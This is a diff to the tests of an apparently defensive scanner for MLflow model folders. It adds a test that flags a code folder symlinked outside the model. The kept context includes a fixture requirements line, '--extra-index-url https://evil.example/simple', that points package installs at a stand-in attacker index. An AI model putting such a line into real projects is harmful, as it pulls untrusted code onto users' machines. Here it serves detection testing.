@@ -172,3 +172,12 @@ def test_environment_files_named_by_the_flavour_and_includes_are_read(tmp_path: 
     (model / "extra.txt").write_text("--extra-index-url https://evil.example/simple\nnumpy\n", encoding="utf-8")
     (finding,) = [f for f in scan_file(str(model / "MLmodel")).findings if f.rule_id == "MLF005"]
     assert finding.level is Severity.HIGH and "extra.txt" in finding.details["requirements"]
+
+
+def test_code_folder_linked_out_of_the_model(tmp_path: Path) -> None:
+    model = copy(tmp_path, "pyfunc_loader_module")
+    shutil.rmtree(model / "code")
+    (tmp_path / "elsewhere").mkdir()
+    (model / "code").symlink_to(tmp_path / "elsewhere")
+    (finding,) = [f for f in scan_file(str(model / "MLmodel")).findings if f.rule_id == "MLF003"]
+    assert "outside the model folder" in finding.evidence
